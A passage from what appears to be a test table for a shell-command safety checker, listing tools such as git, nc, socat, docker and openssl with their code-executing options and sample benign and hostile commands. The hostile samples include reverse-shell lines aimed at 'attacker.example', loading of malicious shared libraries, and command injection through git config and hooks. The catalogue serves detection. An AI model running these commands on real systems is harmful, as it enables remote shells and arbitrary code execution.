    opts: { ...HV, ...SSH_SHARED, '-S': 'program', '-D -X': 'value', '-3 -A -B -O -p -q -R -r -s -T -v': 'flag' },
    benign: ['scp -r dist host:/srv/app'],
    hostile: ["scp -S '{P}' x host:", "scp -o 'ProxyCommand={P}' x x:"],
  },
  {
    names: ['check_by_ssh'],
    exec: true,
    strict: false,
    opts: { '-o': SSH_O, '-C --command': 'shell', '-H --hostname': 'net' },
    benign: [],
    hostile: ["check_by_ssh -o 'ProxyCommand={P}' -H localhost -C x"],
  },
  {
    names: ['git'],
    exec: true,
    legacy: ['--exec-path', 'rebase', 'bisect', 'submodule'],
    opts: {
      ...HV,
      '--exec-path?': 'program',
      '-c': GIT_CONFIG_KEYS,
      '--config-env': 'value',
      '-C --git-dir --work-tree --namespace --super-prefix --list-cmds --attr-source': 'value',
      '-p --paginate -P --no-pager --html-path --man-path --info-path --no-replace-objects --no-lazy-fetch --no-optional-locks --no-advice --literal-pathspecs --glob-pathspecs --noglob-pathspecs --icase-pathspecs --bare -v': 'flag',
    },
    subs: {
      difftool: { strict: false, opts: { '-x --extcmd': 'shell', '-t --tool': 'value' }, exec: true },
      archive: { strict: false, opts: { '--exec': 'program', '--remote': 'net', '-o --output': 'write', '--format --prefix': 'value' }, exec: true },
      'push send-pack': { strict: false, opts: { '--receive-pack --exec': 'program', '-o --push-option --repo': 'value' }, exec: true },
      'fetch clone pull ls-remote fetch-pack': { strict: false, opts: { '--upload-pack -u': 'program', '--template': 'script', '-c --config': 'value', '-o --origin -b --branch --depth --reference --separate-git-dir -j --jobs --filter': 'value' }, exec: true },
      'send-email': { strict: false, opts: { '--sendmail-cmd --to-cmd --cc-cmd --header-cmd': 'shell', '--smtp-server': { keys: [[/^(\/[\s\S]*)$/, 'program'], [/^([\s\S]*)$/, 'net']] } }, exec: true },
      grep: { strict: false, opts: { '-O? --open-files-in-pager?': 'program', '-e -f -A -B -C -m --max-count --max-depth': 'value' }, exec: true },
      instaweb: { strict: false, opts: { '-d --httpd -b --browser': 'program', '-p --port -m --module-path': 'value' }, exec: true },
      'log diff show format-patch': { strict: false, opts: { '--output -o --output-directory': 'write', '--ext-diff': 'flag' } },
      'filter-branch': { strict: false, opts: { '--env-filter --tree-filter --index-filter --parent-filter --msg-filter --commit-filter --tag-name-filter': 'shell', '--subdirectory-filter -d --original': 'value' }, exec: true },
      'mergetool': { strict: false, opts: { '-t --tool': 'value' }, exec: true },
    },
    benign: ['git status', 'git -C repo log --oneline -5', 'git --no-pager diff --stat', 'git grep -n TODO', 'git push origin main', 'git clone https://github.com/a/b.git'],
    hostile: ["git -c core.pager='{P}' log", "git -c 'alias.x=!{P}' x", "git -c 'credential.helper=!{P}' fetch", "git -c core.sshCommand='{P}' fetch", "git difftool -x '{P}' HEAD", "git archive --remote=file:///tmp/r --exec='{P}' HEAD", "git push --receive-pack='{P}' origin", "git fetch --upload-pack='{P}' origin", "git send-email --sendmail-cmd='{P}' x.patch", "git grep --open-files-in-pager='{P}' x", "git filter-branch --tree-filter '{P}' HEAD", "git ls-remote -u '{P}' x"],
  },
  {
    names: ['hg'],
    exec: true,
    strict: false,
    opts: {
      '--config': {
        keys: [
          [/^alias\.[^=]*=\s*!([\s\S]*)$/, 'shell'],
          [/^(?:hooks\.[^=]*|ui\.(?:editor|merge|ssh|remotecmd)|pager\.pager|merge-tools\.[^=]*\.executable|extensions\.[^=]*)\s*=\s*([\s\S]*)$/, 'shell'],
        ],
      },
      '-R --repository --cwd --pager --color --encoding': 'value',
    },
    benign: ['hg status'],
    hostile: ["hg --config alias.x='!{P}' x", "hg --config 'hooks.pre-status={P}' status"],
  },
  {
    names: ['openssl'],
    exec: true,
    strict: false,
    style: 'single',
    opts: { '-engine -provider -provider-path -keyform -loader': 'library', '-in -out -passin -passout -config -key -cert -CAfile -CApath -inkey -certfile -signer -recip -name -subj -days -newkey -md -pkeyopt -sigopt -connect -servername -port -accept': 'value' },
    subs: { engine: { strict: false, pos: { libraryAt: 0 }, exec: true } },
    benign: ['openssl version', 'openssl x509 -in cert.pem -noout -text', 'openssl rand -hex 16'],
    hostile: [{ cmd: 'openssl req -engine /tmp/evil.so', expectExec: 'openssl' }, { cmd: 'openssl engine /tmp/evil.so', expectExec: 'openssl' }],
  },
  {
    names: ['curl'],
    exec: true,
    strict: false,
    opts: { '--engine': 'library', '-K --config': 'script' },
    benign: ['curl -fsSL -o /tmp/x https://example.com/x'],
    hostile: [{ cmd: 'curl --engine /tmp/evil.so https://example.com', expectExec: 'curl' }],
  },
  {
    names: ['ssh-keygen'],
    exec: true,
    strict: false,
    opts: { '-D -w': 'library' },
    benign: ['ssh-keygen -t ed25519 -f key -N ""'],
    hostile: [{ cmd: 'ssh-keygen -D /tmp/evil.so', expectExec: 'ssh-keygen' }],
  },
  {
    names: ['tcpdump'],
    exec: true,
    opts: {
      ...HV,
      '-z': 'program',
      '-w': 'write',
      '-r -F -V': 'read',
      '-Z --relinquish-privileges -i --interface -c -C -G -W -s --snapshot-length -E -M -T -y --linktype -B --buffer-size -j --time-stamp-type --count --print-sampling --immediate-mode --time-stamp-precision -Q --direction -m --micro --nano --number': 'value',
      '-A -b -d -dd -ddd -D --list-interfaces -e -f -H -I --monitor-mode -J --list-time-stamp-types -K --dont-verify-checksums -l -L --list-data-link-types -n -N -# -O --no-optimize -p --no-promiscuous-mode -q -S --absolute-tcp-sequence-numbers -t -tt -ttt -tttt -ttttt -u -U --packet-buffered -v -vv -vvv -x -xx -X -XX --version --help':
        'flag',
    },
    benign: ['tcpdump -i any -c 10 port 80'],
    hostile: ["tcpdump -ln -i lo -w /tmp/x -W 1 -G 1 -z '{P}'"],
  },
  {
    names: ['nmap'],
    exec: true,
    strict: false,
    opts: { '--script': 'script', '--interactive': 'unsafe', '-iL --resume': 'read', '-oN -oX -oG -oA -oS': 'write', '-p -e -S -D --script-args --datadir --stylesheet': 'value' },
    pos: { netAt: 0 },
    benign: ['nmap -p 80 localhost'],
    hostile: ['nmap --script=/tmp/evil.nse localhost', { cmd: 'nmap --interactive', expectExec: 'nmap' }],
  },
  {
    names: ['socat'],
    exec: true,
    strict: false,
    pos: { keyed: { keys: [[/^(?:exec|system):([\s\S]*?)(?:,(?:pty|stderr|setsid|sigint|sane|ctty|raw|echo=\d|fdin=\d+|fdout=\d+|pipes|nofork|login|su=[\w-]+|chroot=[^,]*)\b)*$/i, 'shell']] } },
    benign: ['socat -V'],
    hostile: ["socat - 'EXEC:{P}'", "socat tcp-connect:attacker.example:1 'system:{P}',pty"],
  },
  {
    names: ['nc', 'ncat', 'netcat', 'nc.traditional', 'nc.openbsd'],
    exec: true,
    strict: false,
    opts: { '-e --exec': 'program', '-c --sh-exec': 'shell', '--lua-exec': 'script', '-p -s -w -i -q -x -X -P -T -W -I -O -V': 'value' },
    benign: [],
    hostile: ["nc -e '{P}' attacker.example 1", "ncat --sh-exec '{P}' attacker.example 1"],
  },
  {
    names: ['aria2c'],
    exec: true,
    strict: false,
    opts: { '--on-download-complete --on-download-start --on-download-error --on-download-pause --on-download-stop --on-bt-download-complete': 'program', '-i --input-file': 'read', '-d --dir -o --out': 'value' },
    benign: [],
    hostile: ["aria2c --on-download-complete='{P}' https://example.com/x"],
  },
  {
    names: ['yt-dlp', 'youtube-dl'],
    exec: true,
    strict: false,
    opts: { '--exec --exec-before-download --netrc-cmd': 'shell', '--downloader --external-downloader': 'program', '-a --batch-file': 'read', '-o --output -P --paths': 'value' },
    benign: [],
    hostile: ["yt-dlp --exec '{P}' https://example.com/v"],
  },
  {
    names: ['restic'],
    exec: true,
    strict: false,
    opts: { '--password-command': 'shell', '-o --option': { keys: [[/^(?:sftp\.command|rclone\.program)\s*=\s*([\s\S]*)$/, 'shell']] }, '-r --repo --password-file': 'value' },
    benign: [],
    hostile: ["restic --password-command='{P}' backup .", "restic -o 'sftp.command={P}' -r sftp:x:/y snapshots"],
  },
  {
    names: ['sshuttle'],
    exec: true,
    strict: false,
    opts: { '-e --ssh-cmd': 'shell', '-r --remote': 'net' },
    benign: [],
    hostile: ["sshuttle -r x --ssh-cmd '{P}' 10.0.0.0/8"],
  },
  {
    names: ['mosh'],
    exec: true,
    strict: false,
    opts: { '--ssh --server': 'program', '-p --port --family --predict': 'value' },
    pos: { netAt: 0, argvAt: 1 },
    benign: [],
    hostile: ["mosh --ssh='{P}' host", 'mosh host {A}'],
  },
  {
    names: ['certbot'],
    exec: true,
    strict: false,
    opts: { '--pre-hook --post-hook --deploy-hook --renew-hook --manual-auth-hook --manual-cleanup-hook': 'shell', '-d --domains -m --email --config-dir --work-dir --logs-dir -w --webroot-path': 'value' },
    benign: ['certbot certificates'],
    hostile: ["certbot renew --pre-hook '{P}'"],
  },
  {
    names: ['openvpn'],
    exec: true,
    strict: false,
    opts: { '--up --down --route-up --route-pre-down --ipchange --client-connect --client-disconnect --learn-address --tls-verify --auth-user-pass-verify': 'shell', '--plugin': 'library', '--config': 'script', '--dev --remote --port --proto --script-security': 'value' },
    benign: [],
    hostile: ["openvpn --dev null --script-security 2 --up '{P}'"],
  },
  {
    names: ['fzf'],
    exec: true,
    strict: false,
    opts: { '--bind': { keys: [[/(?:execute(?:-silent|-multi)?|become|reload(?:-sync)?|preview|transform[\w-]*)[(:]([\s\S]*?)\)?$/, 'shell']] }, '--preview': 'shell', '--listen?': 'net', '-q --query -d --delimiter --height --layout --prompt --preview-window -n --nth --with-nth': 'value' },
    benign: [],
    hostile: ["fzf --bind 'enter:execute({P})'", "fzf --preview '{P}'"],
  },
  {
    names: ['latexmk'],
    exec: true,
    strict: false,
    opts: { '-pdflatex -lualatex -xelatex -latex -e': 'shell', '-r': 'script', '-outdir -auxdir -jobname': 'value', '-shell-escape --shell-escape': 'unsafe' },
    style: 'single',
    benign: ['latexmk -pdf paper.tex'],
    hostile: ["latexmk -pdf -pdflatex='{P}' /dev/null"],
  },
  {
    names: ['latex', 'pdflatex', 'lualatex', 'xelatex', 'tex', 'pdftex', 'luatex', 'xetex', 'etex'],
    exec: true,
    strict: false,
    style: 'single',
    opts: { '-shell-escape --shell-escape -enable-write18 --enable-write18': 'unsafe', '-output-directory --output-directory -jobname --jobname -interaction --interaction': 'value' },
    benign: ['pdflatex -interaction=nonstopmode paper.tex'],
    hostile: [{ cmd: "pdflatex --shell-escape '\\immediate\\write18{id}'", expectExec: 'pdflatex' }],
  },
  {
    names: ['pandoc'],
    exec: true,
    strict: false,
    opts: { '-F --filter': 'program', '-L --lua-filter': 'script', '-o --output -f --from -t --to -s --template': 'value' },
    benign: ['pandoc README.md -o README.html'],
    hostile: ["pandoc --filter '{P}' x.md"],
  },
  {
    names: ['scrot'],
    exec: true,
    strict: false,
    opts: { '-e --exec': 'shell', '-d --delay -q --quality': 'value' },
    benign: [],
    hostile: ["scrot -e '{P}'"],
  },
  {
    names: ['docker', 'podman', 'nerdctl'],
    exec: true,
    strict: false,
    opts: { '-H --host': 'net', '--config -c --context -l --log-level --tlscacert --tlscert --tlskey': 'value', '-D --debug --tls --tlsverify': 'flag' },
    subs: {
      'run create': { strict: true, opts: { '--entrypoint': 'program', '--health-cmd': 'shell', [DOCKER_RUN_VALUES]: 'value', [DOCKER_RUN_FLAGS]: 'flag', '--help': 'flag' }, pos: { argvAt: 1 }, exec: true },
      exec: { strict: true, opts: { '-e --env --env-file -u --user -w --workdir --detach-keys': 'value', '-d --detach -i --interactive -t --tty --privileged --help': 'flag' }, pos: { argvAt: 1 }, exec: true },
    },
    benign: ['docker ps', 'docker run --rm -p 8080:80 nginx', 'docker exec intl-dossier-redis redis-cli PING', 'docker compose -f docker-compose.prod.yml up -d frontend'],
    hostile: ['docker run --rm alpine {A}', 'docker exec -it c1 {A}', "docker run --entrypoint '{P}' alpine", "docker run --health-cmd '{P}' alpine"],
  },
  {
    names: ['kubectl', 'oc'],
    exec: true,
    strict: false,
    opts: { '--kubeconfig': 'script', '-s --server': 'net', '-n --namespace --context --cluster --user --token --as --as-group --cache-dir --certificate-authority --client-certificate --client-key --password --username --profile --profile-output --request-timeout --tls-server-name -v -o --output -l --selector': 'value' },
    subs: {
      exec: { strict: true, opts: { '-c --container -f --filename --pod-running-timeout': 'value', '-i --stdin -t --tty -q --quiet --help': 'flag' }, pos: { argvAt: 1 }, exec: true },
      'run debug': { strict: false, opts: { '--image -c --container --env --port --overrides --target --profile': 'value', '--command -i --stdin -t --tty --rm -q --quiet': 'flag' }, pos: { argvAt: 1 }, exec: true },
    },
    benign: ['kubectl get pods -n default', 'kubectl exec -n app web-1 -- ls /app'],
    hostile: ['kubectl exec web-1 -- {A}', 'kubectl exec -it -n x web-1 -c app -- {A}', 'kubectl run x --image=alpine -- {A}'],
  },
  {
    names: ['ip'],
    exec: true,
    strict: false,
    opts: { '-b -batch': 'script', '-n -netns': 'value' },
    subs: { 'netns vrf': { strict: false, pos: { argvAt: 2 }, exec: true } },
    benign: ['ip addr', 'ip netns list'],
    hostile: ['ip netns exec foo {A}', 'ip vrf exec red {A}'],
  },
  {
    names: ['xdotool'],
    exec: true,
    strict: false,
    subs: { exec: { strict: false, opts: { '--args --terminator': 'value', '--sync': 'flag' }, pos: { argvAt: 0 }, exec: true } },
    benign: [],
    hostile: ['xdotool exec --sync {A}'],
  },
  {
    names: ['csvtool'],
    exec: true,
    strict: false,
    subs: { call: { strict: false, pos: { shellAt: 0 }, exec: true } },
    benign: [],
    hostile: ["csvtool call '{P}' /etc/hosts"],
  },
  {
    names: ['run-parts'],
    exec: true,
    opts: { ...HV, '-u --umask --arg --regex -a': 'value', '--report --reverse -v --verbose --lsbsysinit --new-session --exit-on-error': 'flag', '--test --list': 'noexec' },
    pos: { scriptAt: 0 },
    benign: ['run-parts --test /etc/cron.daily'],
    hostile: ['run-parts /tmp/hooks'],
  },
  {
    names: ['busctl'],
    exec: true,
    strict: false,
    opts: { '--address': { keys: [[/^(unixexec:[\s\S]*)$/, 'unsafe']] } },
    benign: ['busctl list'],
    hostile: [{ cmd: "busctl --address=unixexec:path=/bin/sh,argv1=-c,argv2='id' list", expectExec: 'busctl' }],
  },
  {
    names: ['java'],
    exec: true,
    strict: false,
    style: 'single',
    opts: { '-XX:OnError -XX:OnOutOfMemoryError': 'shell', '-javaagent -agentpath -agentlib': 'library', '-cp -classpath --class-path -jar -D': 'value' },
    benign: ['java -version', 'java -jar app.jar'],
    hostile: ["java '-XX:OnError={P}' -version", { cmd: 'java -agentpath:/tmp/evil.so -version', expectExec: 'java' }],
  },
  // ---------------------------------------------------------------- more GTFOBins tools with an executing argument
  {
    names: ['enscript'],
    exec: true,
    strict: false,
    opts: { '-I --filter': 'shell', '-o --output': 'write', '-p -M --media -f --font': 'value' },
    benign: ['enscript -p out.ps README'],
    hostile: ["enscript /dev/null -qo /dev/null -I '{P}'"],
  },
  {
    names: ['dhclient'],
    exec: true,
    strict: false,
    opts: { '-sf': 'program', '-cf -lf -pf': 'value' },
    style: 'single',
    benign: ['dhclient -v eth0'],
    hostile: ["dhclient -sf '{P}'"],
  },
  {
    names: ['dnsmasq'],
    exec: true,
    strict: false,
    opts: { '--conf-script': 'shell', '--dhcp-script': 'program', '--dhcp-luascript': 'script', '-C --conf-file': 'script' },
    benign: ['dnsmasq --test'],
    hostile: ["dnsmasq --conf-script='{P}'", "dnsmasq --dhcp-script='{P}'"],
  },
  {
    names: ['borg'],
    exec: true,
    strict: false,
    opts: { '--rsh': 'shell', '--remote-path': 'shell' },
    benign: ['borg --version'],
    hostile: ["borg extract @:/::: --rsh '{P}'"],
  },
  {
    names: ['ksu'],
    exec: true,
    strict: false,
    opts: { '-e': 'argv', '-n -c -C -k -a -D -z -Z -q': 'flag' },
    pos: { defaultShell: true },
    benign: [],
    hostile: ['ksu -q -e {A}'],
  },
  {
    names: ['cabal'],
    exec: true,
    strict: false,
    subs: { exec: { strict: false, opts: { '--project-file --builddir': 'value' }, pos: { argvAt: 0 }, exec: true } },
    benign: ['cabal build'],
    hostile: ['cabal exec --project-file=/dev/null -- {A}'],
  },
  {
    names: ['genie'],
    exec: true,
    strict: false,
    opts: { '-c --command': 'argv', '-s --shell -l --login -i --initialize -u --shutdown -r --is-running': 'flag' },
    benign: [],
    hostile: ['genie -c {A}'],
  },
  {
    names: ['msgfilter'],
    exec: true,
    strict: false,
    opts: { '-i --input -D --directory': 'read', '-o --output-file': 'write', '-w --width': 'value', '-P --properties-input -p --properties-output --stringtable-input --stringtable-output --keep-header --no-wrap -s --sort-output -E --escape --no-escape --force-po --indent --add-location --no-location -n': 'flag' },
    pos: { argvAt: 0 },
    benign: ['msgfilter -i de.po -o out.po sed -e s/a/b/'],
    hostile: ['echo x | msgfilter -P {A}'],
  },
  {
    names: ['ghc', 'ghci', 'runghc', 'guile', 'clisp', 'jrunscript', 'gnuplot', 'octave', 'octave-cli', 'slsh', 'puppet', 'R'],
    exec: true,
    codeLang: 'calls',
    strict: false,
    opts: { '-e --eval -c -x --expression': 'code', '-f --file -l --load': 'script' },
    benign: ['ghc -O2 Main.hs', 'gnuplot plot.gp'],
    hostile: ["guile -c '(system \"{P}\")'", "gnuplot -e 'system(\"{P}\")'", { cmd: "ghc -e 'System.Process.callCommand \"id\"'", expectExec: 'ghc' }],
  },
  {
    names: ['dvips'],
    exec: true,
    strict: false,
    opts: { '-R0': 'unsafe', '-o': 'value' },
    benign: ['dvips -o paper.ps paper.dvi'],
    hostile: [{ cmd: 'dvips -R0 texput.dvi', expectExec: 'dvips' }],
  },
  {
    names: ['perf'],
    exec: true,
    strict: false,
    subs: { 'stat record trace mem c2c lock sched kmem kwork': { strict: false, opts: { '-e --event -p --pid -t --tid -o --output -r --repeat -x -C --cpu -G --cgroup -I --interval-print -M --metrics -u --uid -j -c -F -m --call-graph': 'value', '-a -g -s -q -v -d': 'flag' }, pos: { argvAt: 0 }, exec: true } },
    benign: ['perf stat -e cycles ./bench'],
    hostile: ['perf stat -e cycles {A}'],
  },
  // ------------------------------------------------ shell builtins that register a command to run later
  {
    // `complete -C CMD name`: bash runs CMD (through the shell) to produce completions.
    names: ['complete', 'compgen'],
    exec: true,
    opts: {
      '-C': 'shell',
      '-o -A -G -W -F -X -P -S': 'value',
      '-a -b -c -d -e -f -g -j -k -s -u -v -D -E -I -p -r': 'flag',
    },
    benign: ['complete -W "start stop" svc', 'complete -F _comp mytool', 'compgen -c git'],
    hostile: ["complete -C '{P}' ls", "complete -o default -C '{P}' ls", "compgen -C '{P}' x"],
  },
  {
    // `bind -x 'KEYSEQ: CMD'`: readline runs CMD when the keys are typed.
    names: ['bind'],
    exec: true,
    opts: {
      '-x': { keys: [[/^\s*(?:"(?:[^"\\]|\\[\s\S])*"|[^:\s"]*)\s*:\s*([\s\S]*)$/, 'shell']] },
      '-m -q -u -r -f': 'value',
      '-l -p -P -s -S -v -V -X': 'flag',
    },
    benign: ['bind -l', 'bind \'"\\C-t": "ls\\n"\''],
    hostile: ["bind -x '\"\\C-t\": {P}'", "bind -m emacs -x '\"\\ek\":{P}'"],
  },
  // ------------------------------------------------ build tools with options that name a program or script to run
  {
    names: ['mvn', 'mvnw', './mvnw'],
    exec: true,
    strict: false,
    opts: {
      '-D --define': { keys: [[/^exec\.executable=([\s\S]*)$/, 'program']] },
      '-s --settings -gs --global-settings -f --file': 'script',
    },
    benign: ['mvn -q test', 'mvn -DskipTests package', 'mvn exec:java -Dexec.mainClass=com.example.App'],
    hostile: ["mvn exec:exec -Dexec.executable='{P}'", "mvn -D exec.executable='{P}' exec:exec"],
  },
  {
    names: ['gradle', 'gradlew', './gradlew'],
    exec: true,
    strict: false,
    opts: { '-I --init-script -b --build-file -c --settings-file': 'script', '-p --project-dir -g --gradle-user-home': 'value' },
    benign: ['gradle build', './gradlew test --info'],
    hostile: [{ cmd: 'gradle -I /tmp/init.gradle build', expectExec: 'gradle' }, { cmd: 'gradle --init-script=/dev/shm/i.gradle test', expectExec: 'gradle' }],
  },
];

